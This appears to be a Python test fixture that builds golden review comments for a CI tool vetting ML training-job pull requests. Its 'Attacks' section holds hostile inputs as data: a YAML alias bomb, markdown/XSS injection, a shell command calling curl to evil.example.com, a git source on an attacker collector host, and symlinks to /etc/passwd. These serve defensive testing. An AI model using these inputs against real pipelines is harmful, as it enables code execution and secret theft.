"""The pull requests whose review comments are in tests/golden/review.

`python -m tests.unit.review.cases FOLDER` writes the comments.
"""

import re
import sys
import tempfile
from pathlib import Path

from tests.chart.rendering import ROOT
from tests.unit.review import workbench_cases
from tests.unit.review.repositories import DIGEST, LINK, RUN, VERSION, Case, changed, review_of
from tfd.review.analysis.policy_file import RulesError
from tfd.review.output.comment import comment
from tfd.review.sources.git import GitError

OLD = "jobs/vision/digits-41.yaml"
NEW = "jobs/vision/digits-42.yaml"
MERGED = {OLD: RUN}
BOARD_IMAGE = f"registry.example.com/tools/tensorboard@{DIGEST}"
FASTER = changed(RUN, ("1e-3", "3e-3"), ("steps: 20000", "steps: 60000"))
SUSPENDED = f"{RUN}state: suspended\n"
ARCHIVED = f"{RUN}state: archived\n"
NO_CHARTS: dict[str, str | None] = {
    str(path.relative_to(ROOT)): None for path in (ROOT / "charts").rglob("*") if path.is_file()
}
ONE_GPU = changed(RUN, ("replicas: 4", "replicas: 1"))
BOMB = "storage: {claim: runs}\na: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{name}: &{name} [{', '.join([f'*{before}'] * 10)}]\n" for before, name in zip("abcdef", "bcdefg", strict=True)
)
EVIL = "`<img src=x onerror=alert(1)>` @everyone | a \\| b <!-- tfd review --> [x](https://evil.example.com) ``` # *b*"
ALL = ("system-cluster-critical", "`admin`", "payroll", "`*`", "sitecustomize.py")
INJECTION = f"""{RUN}owner: "{EVIL.replace(chr(92), chr(92) * 2)}"
description: |
  ```
  </details></code></pre>
  <!-- tfd review -->
  ### ✅ Merging starts nothing
  | a | b |
  \u202eright to left\u202c and zero\u200bwidth
args: ["{EVIL.replace(chr(92), chr(92) * 2)}"]
"""

TAKES_ALL = f"""{changed(RUN, ("gpus: 1}", "gpus: 16, tolerations: [{operator: Exists}]}"))}\
scheduling: {{priorityClassName: system-cluster-critical}}
serviceAccountName: admin
env: [{{name: A, valueFrom: {{secretKeyRef: {{name: payroll, key: password}}}}}}]
code: {{files: {{sitecustomize.py: "import os"}}}}
"""
GIT = (
    f"{{repository: 'https://collector.evil.example/repo', commit: {40 * 'b'}, tokenSecret: {{name: git, key: token}}}}"
)
LARGE = "{requests: {cpu: 96, memory: 900Gi}, limits: {memory: 900Gi}}"
# What the first ten lines of the review comment must have: what a hostile pull request takes, and from whom.
TAKEN: dict[str, tuple[str, ...]] = {
    "hostile-start-among-archived-runs": (*ALL, "vision/zz", "64 GPUs", "17 more runs, once active"),
    "hostile-first-run-of-a-team": (*ALL, "speech/first", "64 GPUs"),
    "hostile-laundering-first-step": (*ALL, "vision/digits-42", "64 GPUs", "once active"),
    "hostile-laundering-second-step": (*ALL, "vision/digits-42", "64 GPUs"),
    "hostile-resumed": (*ALL, "vision/digits-41", "64 GPUs"),
    "hostile-rules-emptied": (
        "⚠️",
        "review.yaml",
        "tfd/review/analysis/policy.py",
        ".github/workflows/review.yaml",
        ".github/CODEOWNERS",
    ),
    "hostile-job-with-its-judges": ("Makefile", "pyproject.toml", "requirements/dev.txt", "docs/.gitattributes"),
    "hostile-long-command": ("⚠️", "Not shown in full", "the middle of a command", "curl https://evil.example.com"),
    "hostile-board-grows-in-cpus-and-memory": ("vision/digits-41", "8.1 CPUs to 104 CPUs", "916 GiB memory"),
    "hostile-priority-of-the-system": ("vision/digits-42", "system-node-critical"),
    "hostile-bucket-of-another-team": ("vision/digits-42", "gs://speech-runs/all", "secret-model"),
    "hostile-git-host": ("vision/digits-42", "https://collector.evil.example/repo", "Secrets: `git`"),
    "hostile-secret-in-a-comment": ("❌", "literalSecrets", "envv"),
    "hostile-invisible-letters": ("❌", "U+0443", "U+3164"),
    "hostile-200-files": (*ALL, "vision/zz", "64 GPUs"),
    "hostile-renamed-team": (*ALL, "visi0n/digits-41", "64 GPUs"),
    "checkout-attributes": ("❌", "jobs/vision/.gitattributes", "git attributes for job files", "UTF-7"),
    "checkout-attributes-above-the-jobs": ("❌", "vision/digits-42", "ident=set"),
    "checkout-attributes-merged": ("❔", "jobs/vision/digits-41.yaml", "ident=set"),
    "checkout-link-out-of-the-repository": ("❌", "docs/passwd", "link out of the repository"),
    "checkout-submodule": ("❌", ".gitmodules", "submodule"),
    "checkout-link-to-a-team": ("❌", "jobs/speech", "symbolic link"),
    "checkout-file-over-the-application": ("❌", ".argocd-source-vision-digits-42.yaml"),
    "checkout-upper-case": ("❌", "VALUES.yaml", "upper and lower case"),
    "hostile-different-rights": ("6 runs", *(f"secret-{n}" for n in range(6))),
}

IN_QUEUE = "scheduling: {queue: vision, priority: normal}\n"
QUEUES: dict[str, str | None] = {
    "review.yaml": "rules: {queues: {allowed: ['{team}'], waiver: []}, teamQueue: {waiver: []}, "
    "queuePriorities: {allowed: [low, normal], waiver: []}}\n",
    "argocd/values.yaml": """\
queues:
  cohort: gpus
  flavors: [{name: a100}]
  priorities: {low: 10, normal: 100}
teams:
  vision: {queue: {a100: {cpu: 64, memory: 256Gi, nvidia.com/gpu: 8}}}
  speech: {queue: {a100: {cpu: 64, memory: 256Gi, nvidia.com/gpu: 4}}}
""",
    OLD: f"{RUN}scheduling: {{queue: vision, priority: low}}\n",
}
SPEECH = changed(RUN, ("20000", "9")) + "scheduling: {queue: speech}\n"

CASES: dict[str, Case] = {
    # New runs.
    "new-run": Case({NEW: FASTER}, MERGED),
    "new-first-of-its-team": Case({"jobs/speech/first.yaml": RUN}, MERGED),
    "new-sweep": Case(
        {f"jobs/vision/try-{name}.yaml": changed(RUN, ("20000", steps), ("1e-3", rate))
         for name, steps, rate in (("a", "10000", "1e-3"), ("b", "10000", "1e-2"), ("c", "20000", "'<b>`'"))}
        | {"jobs/vision/other.yaml": changed(FASTER, ("replicas: 4", "replicas: 8"))}, MERGED
    ),
    "new-suspended": Case({NEW: f"{FASTER}state: suspended\n"}, MERGED),
    "new-warm-start": Case({NEW: f"{FASTER}warmStartFrom: digits-41\n"}, {OLD: SUSPENDED}),
    "new-warm-start-from-an-active-run": Case({NEW: f"{FASTER}warmStartFrom: digits-41\n"}, MERGED),
    "new-warm-start-from-nowhere": Case({NEW: f"{FASTER}warmStartFrom: digits-40\n"}, MERGED),
    "new-next-to-a-run-without-its-chart": Case({NEW: FASTER}, {OLD: changed(RUN, (VERSION, "0.0.1"))}),
    "new-custom-script": Case({NEW: f'{RUN}command: [python, train.py]\nargs: ["--epochs=3"]\n'}, MERGED),
    "new-with-storage-at-its-own-folder": Case(
        {NEW: changed(FASTER, ("storage: {claim: runs}", "storage: {claim: runs, at: /train}"))}, MERGED
    ),
    "new-in-a-queue": Case(
        {NEW: f"{FASTER}scheduling: {{queue: vision, priority: normal}}\n"},
        MERGED | {"review.yaml": "rules: {queues: {allowed: ['{team}'], waiver: []}, "
                                 "queuePriorities: {allowed: [low, normal], waiver: []}}\n"},
    ),
    "queue-fits": Case({NEW: f"{FASTER}{IN_QUEUE}"}, {**QUEUES}),
    "queue-borrows": Case({NEW: changed(FASTER, ("gpus: 1", "gpus: 2")) + IN_QUEUE}, {**QUEUES}),
    "queue-preempts": Case(
        {NEW: changed(FASTER, ("gpus: 1", "gpus: 2")) + IN_QUEUE}, {**QUEUES, "jobs/speech/a.yaml": SPEECH}
    ),
    "queue-reclaims": Case(
        {NEW: f"{FASTER}{IN_QUEUE}"}, {**QUEUES, "jobs/speech/a.yaml": changed(SPEECH, ("gpus: 1", "gpus: 2"))}
    ),
    "queue-never-fits": Case({NEW: changed(FASTER, ("gpus: 1", "gpus: 4")) + IN_QUEUE}, {**QUEUES}),
    "queue-of-another-team": Case({NEW: f"{FASTER}scheduling: {{queue: speech}}\n"}, {**QUEUES}),
    "new-while-the-base-moved-on": Case({NEW: FASTER}, MERGED, meanwhile={"jobs/vision/other.yaml": ONE_GPU}),
    "new-on-an-unreleased-chart": Case({NEW: FASTER}, MERGED, tagged=False),
    "new-on-a-newer-chart": Case({NEW: changed(FASTER, (VERSION, "9.9.9"))}, MERGED, release="9.9.9"),
    "new-in-a-repository-without-charts": Case({NEW: FASTER}, MERGED | NO_CHARTS, tagged=False),
    # Changes in place.
    "mutable-deadline-and-retries": Case({OLD: f"{RUN}deadline: 48h\nretries: 9\n"}, MERGED),
    "mutable-suspended": Case({OLD: SUSPENDED}, MERGED),
    "mutable-resumed": Case({OLD: RUN}, {OLD: SUSPENDED}),
    "mutable-archived": Case({OLD: ARCHIVED}, MERGED),
    "mutable-started-again": Case({OLD: RUN}, {OLD: ARCHIVED}),
    "metadata-only": Case({OLD: f"{RUN}owner: Ada\nlabels: {{experiment: e1}}\n"}, MERGED),
    "default-written-out": Case({OLD: f"{RUN}# the default\nretries: 5\n"}, MERGED),
    "mutable-suspended-on-an-older-chart": Case({OLD: SUSPENDED}, MERGED, release="9.9.9"),
    # Changes that are refused.
    "identity-changed": Case({OLD: FASTER}, MERGED),
    "immutable-changed": Case({OLD: changed(RUN, ("gpus: 1", "gpus: 2"))}, MERGED),
    "chart-upgrade-of-a-merged-run": Case({OLD: changed(RUN, (VERSION, "9.9.9"))}, MERGED, release="9.9.9"),
    "deleted-while-active": Case({OLD: None}, MERGED),
    "renamed-while-active": Case({OLD: None, NEW: RUN}, MERGED),
    # Deleted runs.
    "deleted-after-archived": Case({OLD: None}, {OLD: ARCHIVED}),
    "renamed-after-suspended": Case({OLD: None, NEW: RUN}, {OLD: SUSPENDED}),
    # Names, identities, storage.
    "run-name-of-another-team": Case({"jobs/speech/digits-41.yaml": RUN}, MERGED),
    "same-run-name-in-two-teams": Case({"jobs/a/same.yaml": RUN, "jobs/b/same.yaml": ONE_GPU}),
    "same-application-name": Case({"jobs/a-b/c.yaml": ONE_GPU}, {"jobs/a/b-c.yaml": RUN}),
    "duplicate-identity": Case({NEW: f"{RUN}owner: Grace\n"}, MERGED),
    "duplicate-of-a-deleted-run": Case({NEW: RUN}, {OLD: None}, before=MERGED),
    "name-of-a-deleted-run": Case({OLD: FASTER}, {OLD: None}, before=MERGED),
    "bucket-below-another": Case(
        {"jobs/speech/b.yaml": changed(RUN, ("{claim: runs}", "{uri: gs://bucket/runs/a}"))},
        {"jobs/vision/a.yaml": changed(RUN, ("{claim: runs}", "{uri: gs://bucket/runs}"))},
    ),
    # Rules.
    "rule-image-tag-and-registry": Case(
        {NEW: changed(FASTER, (f"registry.example.com/vision/trainer@{DIGEST}", "docker.io/x/trainer:latest"))}, MERGED
    ),
    "rule-image-of-an-archived-run": Case(
        {OLD: changed(RUN, (f"trainer@{DIGEST}", "trainer:latest"))},
        {OLD: changed(ARCHIVED, (f"trainer@{DIGEST}", "trainer:latest"))},
    ),
    "rule-registry-of-tensorboard": Case({NEW: changed(FASTER, (BOARD_IMAGE, "docker.io/x/board:1"))}, MERGED),
    "rule-registry-of-tensorboard-added-later": Case(
        {OLD: changed(RUN, (BOARD_IMAGE, "docker.io/x/board:1"))}, MERGED
    ),
    "rule-queue-and-priority": Case({NEW: f"{FASTER}scheduling: {{queue: speech, priority: high}}\n"}, MERGED),
    "rule-gpus-and-hours": Case({NEW: changed(FASTER, ("gpus: 1", "gpus: 32"))}, MERGED),
    "rule-gpus-and-hours-waived": Case(
        {NEW: changed(FASTER, ("gpus: 1", "gpus: 32"))}, MERGED, approvals=("maintainers",)
    ),
    "rule-gpus-of-the-team": Case(
        {NEW: changed(FASTER, ("gpus: 1", "gpus: 8"))},
        {f"jobs/vision/large-{n}.yaml": changed(RUN, ("gpus: 1", "gpus: 8"), ("20000", f"2000{n}")) for n in range(4)},
    ),
    "rule-literal-secret": Case(
        {NEW: f"{FASTER}env: [{{name: API_KEY, value: 0123456789abcdef0123}}, {{name: A, value: ghp_{36 * 'x'}}}]\n"},
        MERGED,
    ),
    "rule-old-chart": Case({NEW: changed(FASTER, (VERSION, "0.0.9"))}, MERGED, older="0.0.9"),
    "rule-chart-and-job": Case({NEW: FASTER, "charts/tf-distributed/README.md": "new\n"}, MERGED),
    "rule-too-many-runs": Case({f"jobs/vision/try-{n}.yaml": changed(RUN, ("20000", f"{n + 1}")) for n in range(21)}),
    # The policy file is missing on the base, or the pull request deletes it.
    "without-a-policy-file": Case({NEW: f"{FASTER}env: [{{name: API_KEY, value: 0123456789abcdef0123}}]\n"},
                                  {OLD: RUN, "review.yaml": None}),
    "policy-file-and-chart-deleted": Case(
        {
            NEW: changed(FASTER, (f"trainer@{DIGEST}", "trainer:latest")),
            "charts/tf-distributed/Chart.yaml": None,
            "review.yaml": None,
        },
        MERGED,
    ),
    # Files that are not runs.
    "example-changed": Case({"jobs/examples/a.yaml": FASTER}, {"jobs/examples/a.yaml": RUN}),
    "example-with-its-chart": Case(
        {"jobs/examples/a.yaml": changed(RUN, (VERSION, "9.9.9")), "charts/tf-distributed/README.md": "9.9.9\n"},
        {"jobs/examples/a.yaml": RUN},
    ),
    "no-job-file": Case({"README.md": "words\n", "charts/tf-distributed/README.md": "new\n"}, MERGED),
    "3-of-500-files-change": Case(
        {
            "jobs/t7/run-7.yaml": f"{ONE_GPU}state: suspended\n",
            "jobs/t8/run-8.yaml": f"{ONE_GPU}owner: Ada\n",
            NEW: FASTER,
        },
        MERGED | {f"jobs/t{n % 10}/run-{n}.yaml": ONE_GPU for n in range(500)},
    ),
    # Mistakes.
    "misspelled-key": Case({NEW: changed(FASTER, ("  steps", "  step"))}, MERGED),
    "without-chart-version": Case({NEW: changed(FASTER, (f"chartVersion: {VERSION}\n", ""))}, MERGED),
    "unknown-chart-version": Case({NEW: changed(FASTER, (VERSION, "0.0.9"))}, MERGED),
    "chart-refuses": Case({NEW: changed(FASTER, ("ps: {replicas: 2}", "ps: {replicas: 0}"))}, MERGED),
    "broken-yaml": Case({NEW: "storage: {claim: runs\n", "jobs/vision/list.yaml": "- a\n- b\n"}, MERGED),
    "blocked-by-a-file-on-the-base": Case({NEW: FASTER}, MERGED | {"jobs/vision/broken.yaml": "storage: [\n"}),
    "two-problems-in-two-files": Case(
        {NEW: changed(FASTER, ("steps: 60000", "steps: 0")), "jobs/vision/x.yaml": "storage: {}\n"}, MERGED
    ),
    # Attacks.
    "hostile-bomb": Case({NEW: BOMB}, MERGED),
    "hostile-depth": Case({NEW: f"{RUN}labels: {20_000 * '['}{20_000 * ']'}\n"}, MERGED),
    "hostile-10-megabytes": Case({NEW: f"{RUN}description: {'x' * 10_000_000}\n"}, MERGED),
    "hostile-alias": Case({NEW: changed(FASTER, ("60000", "&n 600"), ("task: digits", "checkpointEvery: 100"))
                           + "retries: *n\n"}, MERGED),
    "hostile-markdown": Case({NEW: INJECTION}, MERGED),
    "hostile-markdown-refused": Case({NEW: f"{RUN}'{EVIL}': 1\nstate: '{EVIL}'\n"}, MERGED),
    "hostile-path-key-and-chart-version": Case(
        {NEW: f"{FASTER}path: jobs/other\n", "jobs/vision/up.yaml": changed(RUN, (VERSION, "../.."))}, MERGED
    ),
    "hostile-paths": Case(
        {
            "jobs/vision/deep/digits-43.yaml": RUN,
            "jobs/vision/`@all`\n| x.yaml": RUN,
            "jobs/Vision/x.yaml": RUN,
            "jobs/vision/short.yml": RUN,
            "jobs/top.yaml": RUN,
        },
        MERGED,
    ),
    "hostile-start-among-archived-runs": Case(
        {f"jobs/vision/a-{n:02}.yaml": changed(ARCHIVED, ("20000", f"{n + 1}")) for n in range(20)}
        | {"jobs/vision/zz.yaml": TAKES_ALL}
    ),
    "hostile-first-run-of-a-team": Case({"jobs/speech/first.yaml": TAKES_ALL}, MERGED),
    "hostile-laundering-first-step": Case({NEW: f"{TAKES_ALL}state: archived\n"}, MERGED),
    "hostile-laundering-second-step": Case(
        {NEW: changed(TAKES_ALL, ("20000", "20001"))}, {OLD: f"{TAKES_ALL}state: archived\n"}
    ),
    "hostile-resumed": Case({OLD: TAKES_ALL}, {OLD: f"{TAKES_ALL}state: suspended\n"}),
    "hostile-rules-emptied": Case(
        {
            "review.yaml": "rules: {}\n",
            "tfd/review/analysis/policy.py": "",
            ".github/workflows/review.yaml": "on: push\n",
            ".github/CODEOWNERS": "",
            **{f"!{n}.md": "words\n" for n in range(9)},
        },
        MERGED,
    ),
    "hostile-job-with-its-judges": Case(
        {NEW: FASTER, "Makefile": "", "pyproject.toml": "", "requirements/dev.txt": "", "docs/.gitattributes": "* x\n"},
        MERGED,
    ),
    "hostile-long-command": Case(
        {NEW: f"{RUN}command: [sh, -c, 'python train.py {1200 * 'x'}; curl https://evil.example.com']\n"}, MERGED
    ),
    "hostile-board-grows-in-cpus-and-memory": Case(
        {OLD: changed(RUN, (BOARD_IMAGE, f"{BOARD_IMAGE}, resources: {LARGE}"))}, MERGED
    ),
    "hostile-priority-of-the-system": Case(
        {NEW: f"{FASTER}scheduling: {{priorityClassName: system-node-critical}}\n"}, MERGED
    ),
    "hostile-bucket-of-another-team": Case(
        {NEW: changed(FASTER, ("{claim: runs}", "{uri: gs://speech-runs/all}")) + "warmStartFrom: secret-model\n"},
        MERGED,
    ),
    "hostile-git-host": Case({NEW: f"{FASTER}code: {{git: {GIT}}}\n"}, MERGED),
    "hostile-secret-in-a-comment": Case(
        {NEW: f"{FASTER}# the key: ghp_{36 * 'x'}\nenvv: [{{name: A, value: hunter2}}]\n"}, MERGED
    ),
    "hostile-invisible-letters": Case(
        {NEW: f"{FASTER}serviceAccountName: b\u0443ilder\n", "jobs/vision/digits\u3164-1.yaml": FASTER,
         "docs/\u202egnp.md": "x\n"}, MERGED
    ),
    "hostile-200-files": Case(
        {f"jobs/vision/a-{n:03}.yaml": "a: 1\n" for n in range(199)} | {"jobs/vision/zz.yaml": TAKES_ALL}
    ),
    "hostile-renamed-team": Case(
        {OLD: None, "jobs/visi0n/digits-41.yaml": TAKES_ALL}, {OLD: f"{TAKES_ALL}state: suspended\n"}
    ),
    "hostile-different-rights": Case(
        {
            f"jobs/vision/b-{n}.yaml": ONE_GPU
            + f"env: [{{name: A, valueFrom: {{secretKeyRef: {{name: secret-{n}, key: k}}}}}}]\n"
            for n in range(6)
        }
    ),
    "link-deleted": Case({NEW: None}, MERGED | {NEW: f"{LINK}digits-41.yaml"}),
    "hostile-link": Case({NEW: f"{LINK}../../../../etc/passwd"}, MERGED),
    # Files that give Argo CD another checkout than the commit, or none.
    "checkout-attributes": Case({NEW: FASTER, "jobs/vision/.gitattributes": "*.yaml working-tree-encoding=UTF-7\n"},
                                MERGED),
    "checkout-attributes-above-the-jobs": Case({NEW: FASTER, ".gitattributes": "jobs/*/*-42.yaml ident\n"}, MERGED),
    "checkout-attributes-merged": Case({NEW: FASTER}, MERGED | {".gitattributes": "jobs/*/*-41.yaml ident\n"}),
    "checkout-submodule": Case({NEW: FASTER, ".gitmodules": '[submodule "a"]\n'}, MERGED),
    "checkout-link-to-a-team": Case({NEW: FASTER, "jobs/speech": f"{LINK}vision"}, MERGED),
    "checkout-link-out-of-the-repository": Case({NEW: FASTER, "docs/passwd": f"{LINK}/etc/passwd"}, MERGED),
    "checkout-file-over-the-application": Case(
        {NEW: FASTER, "charts/tf-distributed/.argocd-source-vision-digits-42.yaml": "helm: {}\n"}, MERGED
    ),
    "checkout-upper-case": Case({NEW: FASTER, "charts/tf-distributed/VALUES.yaml": "a: 1\n"}, MERGED),
    # Merges that cannot be judged.
    "cannot-judge-a-conflict": Case({OLD: f"{RUN}deadline: 1h\n"}, MERGED, meanwhile={OLD: f"{RUN}deadline: 2h\n"}),
    "invalid-policy-file": Case({"review.yaml": "rules: [\n"}, MERGED),
    "cannot-judge-without-the-chart": Case(
        {OLD: changed(SUSPENDED, (VERSION, "0.0.1"))}, {OLD: changed(RUN, (VERSION, "0.0.1"))}
    ),
    **workbench_cases.CASES,
}  # fmt: skip


def golden(name: str, case: Case) -> str:
    """Return the review comment of a case, without the parts that change with every chart version.

    Only one golden has a whole rendering, so that a change of the chart does not change them all.
    """
    with tempfile.TemporaryDirectory() as folder:
        try:
            found = review_of(Path(folder) / "repository", case)
        except (GitError, RulesError) as error:
            return f"{error}\n".replace(folder, "FOLDER")
        text = f"{comment(found)}\nexit code {found.exit_code}\n"
        text = text.replace(found.base[:12], "BASE").replace(found.head[:12], "HEAD")
    if name != "new-run":
        text = re.sub(r"(?<=`diff\n)((?:(?!```).*\n){60,}?)(?=```)", "(long, omitted from this golden)\n", text)
    text = text.replace("9.9.9", "NEWER")
    text = re.sub(r"sha256:(?!a{64})[0-9a-f]{64}", "sha256:HASH", text)
    return re.sub(rf"(^|[^0-9.]){re.escape(VERSION)}([^0-9.]|$)", r"\1VERSION\2", text, flags=re.M)


def main(folder: Path) -> None:
    """Write every review comment."""
    for stale in folder.glob("*.md"):
        if stale.stem not in CASES:
            stale.unlink()
    for name, case in CASES.items():
        (folder / f"{name}.md").write_text(golden(name, case))


if __name__ == "__main__":
    main(Path(sys.argv[1]))
